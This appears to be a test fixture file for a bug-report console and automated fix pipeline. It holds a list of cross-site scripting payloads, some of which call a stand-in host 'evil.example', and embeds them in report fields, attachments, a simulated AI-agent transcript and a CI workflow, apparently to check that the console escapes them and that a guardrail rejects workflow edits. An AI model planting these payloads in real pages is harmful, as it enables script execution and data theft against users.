import { decideHeldReport, transitionRun, triageReport } from '../../src/pipeline/index.js';
import { markBlobsExpired, registerBlobs, type Db } from '../../src/store/index.js';
import { memberPrincipal } from '../../src/tenant/index.js';
import type { TestApp } from '../helpers/app.js';
import { postWidgetReport, runOfReport } from '../pipeline/scenario.js';

/** A 1×1 PNG: real image bytes, so the console serves it inline as image/png. */
export const PNG_1X1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

/**
 * Report content written to break out of every place the console shows it: element and
 * attribute context, URLs, SVG, event handlers, template and style tricks. Rendered as text,
 * each is harmless; any of them run, and the browser test sees a dialog, a request to the
 * attacker's origin or an error.
 */
export const EVIL_ORIGIN = 'https://evil.example';
export const XSS = [
  `<script>alert('xss-script')</script>`,
  `<img src=x onerror="alert('xss-img')">`,
  `"><svg onload=alert('xss-svg')><script>fetch('${EVIL_ORIGIN}/svg')</script></svg>`,
  `'><iframe src="javascript:alert('xss-iframe')"></iframe>`,
  `<a href="javascript:alert('xss-link')">click me</a>`,
  `</textarea></pre></td><script src="${EVIL_ORIGIN}/x.js"></script>`,
  `<img src="${EVIL_ORIGIN}/pixel.gif">`,
  `<style>@import '${EVIL_ORIGIN}/x.css';</style><link rel=stylesheet href=${EVIL_ORIGIN}/y.css>`,
  `<body onload=alert('xss-body')><details open ontoggle=alert('xss-details')>`,
  `{{constructor.constructor('alert(1)')()}} \${alert('tpl')} \` onfocus=alert(1) autofocus x="`,
  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/meta">`,
  `<form action="${EVIL_ORIGIN}/steal"><button>go</button></form><base href="${EVIL_ORIGIN}/">`,
];
const ALL = XSS.join(' ');

export function xssReportBody(screenshot: Buffer = PNG_1X1): Record<string, unknown> {
  return {
    text: `Checkout breaks. ${ALL}`,
    console: XSS.map((message, i) => ({ level: i % 2 ? 'error' : 'warn', message, ts: i })),
    page: { url: `javascript:alert('xss-url')//${XSS[2]}`, userAgent: XSS[1], viewport: { width: 1280, height: 800 } },
    reporter: { name: XSS[0], email: `"><script>alert('xss-email')</script>@example.test`, id: XSS[4] },
    environment: { browser: XSS[3], custom: { plan: XSS[6] } },
    attachments: [
      { name: `<img src=x onerror=alert('xss-attname')>.png`, contentType: 'image/png', data: screenshot.toString('base64') },
      {
        name: `notes"><svg onload=alert('xss-txt')>.txt`,
        contentType: 'text/plain',
        data: Buffer.from(`<script>alert('xss-file')</script>`).toString('base64'),
      },
      // Declared a PNG, really HTML: served as a download, never rendered.
      { name: 'fake.png', contentType: 'image/png', data: Buffer.from(`<html><script>alert('xss-fake')</script></html>`).toString('base64') },
    ],
  };
}

/** A report posted through the widget and triaged: with no classifier configured it is held for review. */
export async function heldReport(app: TestApp, publicKey: string, body: Record<string, unknown>): Promise<{ reportId: string; runId: string }> {
  const { id } = await postWidgetReport(app.url, publicKey, body);
  await triageReport(app.deps.pipeline, id);
  await registerBlobs(app.deps.store.db);
  const run = await runOfReport(app.deps.store.db, id);
  if (!run || run.state !== 'needs_review') throw new Error(`report ${id} is not held (${run?.state})`);
  return { reportId: id, runId: run.id };
}

/**
 * A held report taken all the way to `pr_failed` by the guardrail, as the pipeline would
 * leave it: approved, run, checked, refused, with its run log and change set in the blob store.
 */
export async function prFailedRun(app: TestApp, orgId: string, publicKey: string, body: Record<string, unknown>): Promise<{ reportId: string; runId: string }> {
  const { reportId, runId } = await heldReport(app, publicKey, body);
  const db = app.deps.store.db;
  await decideHeldReport({ db }, memberPrincipal({ userId: 'usr_fixture', orgId, role: 'member' }), reportId, { action: 'approve' });
  const logBlob = `runs/${runId}/transcript.jsonl`;
  const changesetBlob = `runs/${runId}/changeset.json`;
  const evil = String(body.text ?? '');
  const transcript = [
    { at: '2026-12-02T04:00:00.000Z', kind: 'model_request', id: 'm1', fromMessage: 0, messages: [{ role: 'user', content: `Fix this report: ${evil}` }] },
    {
      at: '2026-12-02T04:00:02.000Z',
      kind: 'model_response',
      id: 'm1',
      costUsd: 0.0123,
      response: {
        content: `I will edit the workflow. ${evil}`,
        toolCalls: [{ id: 't1', name: 'write_file', arguments: { path: '.github/workflows/ci.yml' } }],
        usage: { inputTokens: 1200, outputTokens: 340 },
        stopReason: 'tool_use',
      },
    },
    { at: '2026-12-02T04:00:03.000Z', kind: 'tool_result', callId: 't1', name: 'write_file', ok: true, output: `wrote ${evil}` },
    { at: '2026-12-02T04:00:04.000Z', kind: 'runner_done', summary: `Done. ${evil}` },
  ];
  await app.deps.store.blobs.put(logBlob, Buffer.from(transcript.map((e) => JSON.stringify(e)).join('\n') + '\n'));
  const workflow = Buffer.from(`on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${evil}"\n`);
  const fix = Buffer.from('export function total(items) {\n  return items.reduce((s, i) => s + i.price, 0);\n}\n');
  const changeSet = {
    baseCommit: 'a'.repeat(40),
    totalBytes: workflow.length + fix.length,
    entries: [
      { path: 'src/total.js', status: 'modified', mode: '100644', oldMode: '100644', size: fix.length, content: fix.toString('base64') },
      { path: '.github/workflows/ci.yml', status: 'added', mode: '100644', size: workflow.length, content: workflow.toString('base64') },
    ],
  };
  await app.deps.store.blobs.put(changesetBlob, Buffer.from(JSON.stringify(changeSet)));
  const verdict = {
    allowed: false,
    violations: [{ path: '.github/workflows/ci.yml', ruleId: 'ci.workflows', reason: 'CI workflow files are never changed by an automatic fix.' }],
  };
  await db.transaction(async (tx) => {
    await transitionRun(tx, runId, 'triaged', 'running', { reason: null });
    await transitionRun(tx, runId, 'running', 'checking', {
      reason: null,
      logBlob,
      changesetBlob,
      baseCommit: changeSet.baseCommit,
      usage: { inputTokens: 1200, outputTokens: 340, turns: 1, costUsd: 0.0123 },
    });
    await transitionRun(tx, runId, 'checking', 'pr_failed', { reason: 'guardrail_rejected', verdict });
  });
  await registerBlobs(db);
  return { reportId, runId };
}

/** Marks every blob of a report as removed by the lifecycle job. */
export async function expireBlobsOfReport(db: Db, reportId: string): Promise<void> {
  const rows = await db.query<{ key: string }>('SELECT key FROM blobs WHERE report_id = $1', [reportId]);
  await markBlobsExpired(
    db,
    rows.map((r) => r.key),
    new Date('2026-11-30T00:00:00Z'),
  );
}
